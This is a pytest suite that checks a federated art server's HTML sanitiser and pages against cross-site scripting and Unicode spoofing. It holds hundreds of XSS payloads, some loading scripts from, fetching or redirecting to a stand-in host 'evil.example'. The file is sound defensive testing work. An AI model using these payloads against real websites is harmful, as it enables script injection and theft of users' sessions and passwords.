"""What strangers write stands in our pages as words: nothing of it runs, dresses up or leads into our own addresses."""

from __future__ import annotations

import html
import re
from collections.abc import AsyncIterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.async_api import Dialog, Route, async_playwright
from starlette.applications import Starlette
from starlette.responses import HTMLResponse
from starlette.routing import Route as Address

from fediart.clock import system_clock, to_iso
from fediart.domain.actors import Role
from fediart.storage import accounts
from fediart.text.sanitise import clean_html
from tests.chromium import chromium
from tests.far_server import FarActor, artist_uri, follow, home, settled
from tests.judged import a_moderator
from tests.people import people_of
from tests.scene import Scene, a_scene
from tests.smtp_sink import a_sink
from tests.test_regain import MAIL, mail_at
from tests.waiting import until
from tests.world import a_world

pytestmark = pytest.mark.anyio

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<script\x0c>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '<img src="javascript:alert(1)">',
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math><a href='javascript:alert(1)'>x</a></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>body{background:url(//evil.example/x)}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<p style='position:fixed;inset:0'>cover</p>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/sign-out'>x</a>",
    "<a href='https://far.example/' onclick=alert(1)>x</a>",
    "<a href='https://far.example/' target=_top style=x id=main>x</a>",
    "<a href='https://far.example/\"onmouseover=alert(1)'>x</a>",
    "<span class='mention primary skip bar card'>x</span>",
    "<p id=main name=form_token>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<table><td background=javascript:alert(1)>x</table>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex action=javascript:alert(1)>",
    "<x onclick=alert(1)>x</x>",
    "<p/onclick=alert(1)>x",
    "<\x00script>alert(1)</script>",
    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\u202egnp.exe\u2066\u200b",
]

ELEMENTS = set(
    re.findall(
        r"\w+",
        """html head meta title link script body a header nav img span form input button main section div p h1 h2 footer b article
        strong small time br em i u del s code pre blockquote ul ol li h3 h4 h5 h6 ruby rt rp sub sup figure figcaption details
        summary label textarea select option fieldset legend dl dt dd noscript progress""",
    )
)
"""All that our own templates and the sanitiser's list hold."""


class Page(HTMLParser):
    """Collects what must not be there."""

    def __init__(self) -> None:
        super().__init__()
        self.problems: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if tag not in ELEMENTS:
            self.problems.append(f"<{tag}>")
        if tag == "script" and not given.get("src", "").startswith("/static/"):
            self.problems.append(f"script {given}")
        if tag == "img" and not given.get("src", "").startswith(("/static/", "/media/")):
            self.problems.append(f"img {given}")
        if tag == "form" and not given.get("action", "").startswith("/"):
            self.problems.append(f"form {given}")
        if tag == "link" and not given.get("href", "").startswith(("/", "http://localhost")):
            self.problems.append(f"link {given}")
        for name, value in given.items():
            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "background", "xlink:href", "target", "srcset"):
                self.problems.append(f"{tag} {name}={value}")
            if name in ("href", "src", "action") and urlsplit(value.strip()).scheme not in ("", "http", "https"):
                self.problems.append(f"{tag} {name}={value}")
            if name == "href":
                self.links.append(value)

    handle_startendtag = handle_starttag

    @classmethod
    def of(cls, text: str) -> Page:
        page = cls()
        page.feed(text)
        page.close()
        return page


def test_the_checker_sees_what_it_is_to_see() -> None:
    for vector in ("<script>x</script>", "<img src=x>", "<p onclick=x>", "<a href='javascript:x'>", "<svg>", "<p style=x>"):
        assert Page.of(vector).problems, vector


@pytest.fixture
async def scene(prepared: Path, tmp_path: Path) -> AsyncIterator[Scene]:
    async with a_scene(prepared, tmp_path) as opened:
        yield opened


def _hostile_actor(scene: Scene, number: int, vector: str) -> FarActor:
    """An actor whose every word is a vector. They share one key."""
    actor = FarActor(scene.far, f"x{number}", scene.ana.number)
    lines = [{"type": "PropertyValue", "name": vector, "value": vector}]
    scene.far.serve(f"/users/x{number}", actor.document(name=vector, summary=vector, attachment=lines))
    return actor


def _hostile_note(scene: Scene, vector: str, published: int) -> dict[str, Any]:
    tags = [{"type": "Hashtag", "name": f"#{vector}"}, {"type": "Mention", "href": artist_uri(scene.world), "name": vector}]
    picture = {"type": "Image", "url": f"{scene.far.url}/absent.jpg", "mediaType": "image/jpeg", "name": vector}
    more = {
        "summary": vector,
        "tag": tags,
        "attachment": [picture],
        "contentMap": {vector: vector},
        "cc": [artist_uri(scene.world)],
    }
    return scene.ana.note(vector, published=to_iso(published), url=f"{scene.far.url}/{vector}".replace(" ", "%20"), **more)


async def _seen_by_a_browser(client: httpx.AsyncClient, paths: list[str]) -> None:
    """Without our policy, which would stop what the pages must not have."""
    ran: list[str] = []
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=chromium(), args=["--no-sandbox"])
        page = await browser.new_page()

        async def dismissed(dialog: Dialog) -> None:
            ran.append(dialog.message)
            await dialog.dismiss()

        async def answered(route: Route) -> None:
            asked = urlsplit(route.request.url)
            if f"{asked.scheme}://{asked.netloc}" != "http://localhost:8000":
                ran.append(route.request.url)
                await route.abort()
                return
            got = await client.get(route.request.url.removeprefix("http://localhost:8000"))
            await route.fulfill(status=got.status_code, content_type=got.headers.get("content-type"), body=got.content)

        page.on("dialog", dismissed)
        await page.route("**/*", answered)
        for path in paths:
            await page.goto(f"http://localhost:8000{path}")
            await page.evaluate(TOUCH)
            assert urlsplit(page.url).netloc == "localhost:8000", path
        await browser.close()
    assert ran == []


TOUCH = """async () => {
    for (const element of document.querySelectorAll("details")) element.open = true;
    for (const element of document.querySelectorAll("main *"))
        for (const event of ["mouseover", "focus", "error", "load", "toggle"]) element.dispatchEvent(new Event(event));
}"""


async def test_the_browser_sees_what_it_is_to_see() -> None:
    """Of each kind of harm: one that runs by itself, one that is touched, one that asks another server."""
    for harm in ("<script>alert(1)</script>", "<main><p onmouseover=alert(1)>x</p></main>", "<img src=//evil.example/x>"):
        app = Starlette(routes=[Address("/", lambda _request, harm=harm: HTMLResponse(f"<!doctype html><body>{harm}"))])
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://localhost:8000") as client:
            with pytest.raises(AssertionError):
                await _seen_by_a_browser(client, ["/"])


def _check(page: httpx.Response, where: str) -> Page:
    assert page.status_code < 500, where
    found = Page.of(page.text)
    assert found.problems == [], where
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" not in page.headers.get("link", "")
    return found


@pytest.mark.row(10)
@pytest.mark.row(31)
async def test_no_vector_in_any_field_of_a_note_runs_in_any_page(scene: Scene) -> None:
    world = scene.world
    await follow(world, scene.ana)
    start = system_clock() - len(VECTORS) * 60_000
    for number, vector in enumerate(VECTORS):
        said = scene.ana.create(_hostile_note(scene, vector, start + number * 60_000))
        assert (await scene.ana.says(world, said)).status_code == 202
    await settled(world)
    entries: list[dict[str, Any]] = []
    while len(entries) < len(VECTORS):
        more = {"max_id": entries[-1]["id"]} if entries else {}
        page = (await world.client.get("/api/v1/timelines/home", params={"limit": 40, **more})).json()
        assert page, "every note came, whatever stands in it"
        entries += page
    for entry in entries:
        inner = Page.of(entry["content"])
        assert inner.problems == [], entry["content"]
        assert all(urlsplit(link).scheme in ("http", "https") for link in inner.links), entry["content"]
        assert "\u202e" not in "".join(tag["name"] for tag in entry["tags"])
        for tag in entry["tags"]:
            assert urlsplit(tag["url"]).netloc == "localhost:8000"
    async with people_of(world.instance) as people:
        mira = await people.person("mira")
        paths = ["/notifications", f"/@{scene.ana.acct}", *(f"/works/{entry['id']}" for entry in entries)]
        pages: list[str] = []
        older: str | None = "/home"
        while older:
            pages.append(older)
            found = _check(await mira.browser.get(older), older)
            older = next((link for link in found.links if link.startswith("/home?max_id=")), None)
        for path in paths:
            _check(await mira.browser.get(path), path)
        await _seen_by_a_browser(mira.browser.http, [*pages, "/notifications"])
        for entry in entries:
            for tag in entry["tags"]:
                _check(await mira.browser.get(tag["url"].removeprefix("http://localhost:8000")), tag["url"])


@pytest.mark.row(10)
@pytest.mark.row(31)
async def test_no_vector_in_any_field_of_a_profile_runs_in_any_page(scene: Scene) -> None:
    world = scene.world
    async with people_of(world.instance) as people:
        mira = await people.person("mira")
        for number, vector in enumerate(VECTORS):
            actor = _hostile_actor(scene, number, vector)
            assert (await actor.says(world, actor.activity("Follow", artist_uri(world)))).status_code == 202
            shown = (await world.client.get("/api/v1/accounts/lookup", params={"acct": actor.acct})).json()
            for part in (shown["note"], *(field["value"] for field in shown["fields"])):
                assert Page.of(part).problems == [], part
            assert not {"\u202e", "\u2066", "\u200b"}.intersection(shown["display_name"] + shown["fields"][0]["name"])
            _check(await mira.browser.get(f"/@{actor.acct}"), vector)
        await settled(world)
        for query in ("", f"?max_id={(await world.client.get('/api/v1/notifications')).json()[-1]['id']}"):
            _check(await mira.browser.get("/notifications" + query), "notifications")


TRICKS = [
    "alert(1)", "alert`1`", "(alert)(1)", "top['al'+'ert'](1)", "&#97;lert(1)", "\\u0061lert(1)", "eval('alert(1)')",
    "location='//evil.example'", "import('//evil.example')", "fetch('//evil.example')",
]  # fmt: skip
SHAPES = [
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<a href='javascript:{}'>x</a>", "<p onclick={}>x</p>",
    "<a href='java\nscript:{}'>x</a>", "<iframe srcdoc='<script>{}</script>'></iframe>", "<br onmouseover={}>",
    "<!--{}--!><img src=x onerror={}>",
    "<math><mi//xlink:href='data:x,<script>{}</script>'>", "<svg><style><img src=x onerror={}></style></svg>",
    "<object data='javascript:{}'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<table><caption><svg><title><style><img src=x onerror={}>", "<template><img src=x onerror={}></template>",
    "<embed src='javascript:{}'>",
    "<a href='https://x.example/' style='x:expression({})'>x</a>", "<span class='card' onfocus={}>x</span>",
    "<xmp><img src=x onerror={}></xmp>",
    "<ruby><rt><svg onload={}></rt></ruby>", "<p><![CDATA[<img src=x onerror={}>]]></p>", "<textarea><img src=x onerror={}>",
    "<a href='https://x.example/?\"onclick={}'>x</a>", "<svg><a><animate attributeName=href values='javascript:{}'/></a></svg>",
]  # fmt: skip


@pytest.mark.row(31)
def test_of_three_hundred_vectors_nothing_is_left() -> None:
    """Also of what is cleaned twice, as by a server that boosts."""
    corpus = [*VECTORS, *(shape.replace("{}", trick) for shape in SHAPES for trick in TRICKS)]
    assert len(corpus) > 300
    for vector in corpus:
        for raw in (vector, f"<p>{vector}</p>", vector.upper(), vector.replace("<", "&lt;"), f"{vector}{vector}"):
            cleaned = clean_html(raw)
            for page in (Page.of(cleaned), Page.of(clean_html(cleaned))):
                assert page.problems == [], raw
                assert all(urlsplit(link).scheme in ("http", "https") for link in page.links), raw


@pytest.mark.row(31)
async def test_what_neighbours_write_runs_in_no_page_of_the_office_nor_in_feeds_and_letters(tmp_path: Path) -> None:
    """Reports, reasons to sign up, works in a feed; and letters, which are words and nothing else."""
    everything = "\n".join(VECTORS).replace("\x00", "")
    settings: dict[str, Any] = {"accounts.sign_ups": "approval"}
    async with (
        a_sink() as sink,
        a_world(tmp_path, **mail_at(sink.port), **settings) as world,
        people_of(world.instance) as people,
    ):
        olga, noor = await a_moderator(people, "olga", Role.OWNER), await people.person("noor")
        await world.instance.storage.write(accounts.put_email, olga.account.id, MAIL)
        work = (
            await world.client.post("/api/v1/statuses", data={"status": everything[:4_000], "spoiler_text": VECTORS[0]})
        ).json()
        said = {"account_id": work["account"]["id"], "status_ids[]": work["id"], "comment": everything[:900]}
        assert (await noor.api.post("/api/v1/reports", data=said)).status_code == 200
        asking = await people.browser()
        wish = {"username": "eve", "password": "a password to test with", "agrees": "1", "reason": everything[:900]}
        await asking.send("/sign-up", {**wish, "email": "eve@mail.example"}, page="/sign-up")
        queue = _check(await olga.browser.get("/admin/review"), "queue")
        cases = [link for link in queue.links if re.fullmatch(r"/admin/review/[0-9]+", link)]
        assert cases
        paths = [*cases, "/admin/sign-ups", "/admin/people", "/admin/audit", "/admin", f"/@mira/{work['id']}"]
        for path in paths:
            _check(await olga.browser.get(path), path)
        assert "alert(1)" in (await olga.browser.get(cases[0])).text
        await _seen_by_a_browser(olga.browser.http, paths)
        media = (await world.upload(description=everything[:1_500]))["id"]
        shown = (await world.client.post("/api/v1/statuses", json={"status": "a picture", "media_ids": [media]})).json()["id"]

        async def published() -> bool:
            return (await world.stranger.get(f"/@mira/{shown}")).status_code == 200

        await until(published)
        feed = await world.stranger.get("/@mira/feed.atom")
        told = re.findall(r'type="html">(.*?)</', feed.text, re.DOTALL)
        assert told
        for part in told:
            assert "<" not in part
            page = html.unescape(part).replace('src="http://localhost:8000/', 'src="/')
            assert Page.of(page).problems == []
        assert sum('<img src="' in html.unescape(part) for part in told) == 1
        await until(lambda: sink.letters)
        for letter in sink.letters:
            assert letter.get_content_type() == "text/plain"
            assert "\n" not in letter["Subject"]


STRANGE = ("pay\u202elap", "ad\u200bmin", "\u0430dmin", "a b", "mira@localhost:8000", "adm\u00adin", "<b>", "a/../b", "")


@pytest.mark.row(33)
async def test_no_handle_turns_hides_or_imitates_and_no_emoji_brings_an_address(scene: Scene) -> None:
    """A name in another script, turned round, or with what is not seen: nobody has such a handle here."""
    world = scene.world
    for number, name in enumerate(STRANGE):
        actor = FarActor(scene.far, f"h{number}", scene.ana.number)
        scene.far.serve(f"/users/h{number}", actor.document(preferredUsername=name))
        scene.far.knows(f"acct:{name}@{scene.far.host}", actor.uri)
        answer = await actor.says(world, actor.activity("Follow", artist_uri(world)))
        assert answer.status_code in (401, 403), name
        found = await world.client.get("/api/v2/search", params={"q": f"@{name}@{scene.far.host}", "resolve": "true"})
        assert found.json()["accounts"] == [], name
    tags = [{"type": "Emoji", "name": ":x:", "icon": {"type": "Image", "url": "javascript:alert(1)"}}]
    tags += [
        {"type": "Emoji", "name": ':"><img src=//evil.example>:', "icon": {"type": "Image", "url": f"{scene.far.url}/x.png"}}
    ]
    scene.ana.shows(name="Mi\u202era\u2066\u200b\u061c\u00ad\u3164 :x:", tag=tags)
    await follow(world, scene.ana)
    shown = (await world.client.get("/api/v1/accounts/lookup", params={"acct": scene.ana.acct})).json()
    assert shown["display_name"] == "Mira :x:"
    assert shown["emojis"] == []
    words = "<p>:x: <img class=emoji src='//evil.example/x.png'> turned</p>"
    await scene.heard(scene.ana, scene.ana.create(scene.ana.note(words, summary="\u202eturned :x:", tag=tags)))
    async with people_of(world.instance) as people:
        mira = await people.person("mira")
        for path in ("/home", f"/@{scene.ana.acct}", "/notifications"):
            page = await mira.browser.get(path)
            _check(page, path)
            assert "evil.example" not in page.text
            assert "\u202e" not in page.text


@pytest.mark.row(31)
async def test_what_is_searched_for_stands_in_the_page_as_words(scene: Scene) -> None:
    async with people_of(scene.world.instance) as people:
        mira = await people.person("mira")
        for vector in VECTORS:
            _check(await mira.browser.http.get("/search", params={"q": vector}), vector)
            _check(await mira.browser.http.get("/authorize_interaction", params={"uri": vector}, follow_redirects=True), vector)


async def test_the_words_that_are_no_markup_are_kept(scene: Scene) -> None:
    await follow(scene.world, scene.ana)
    await scene.heard(
        scene.ana, scene.ana.create(scene.ana.note("<p>2 &lt; 3 &amp; <b>bold</b> <x>kept</x></p>", summary="a < b"))
    )
    (entry,) = await home(scene.world)
    assert entry["content"] == "<p>2 &lt; 3 &amp; <b>bold</b> kept</p>"
    assert entry["spoiler_text"] == "a < b"
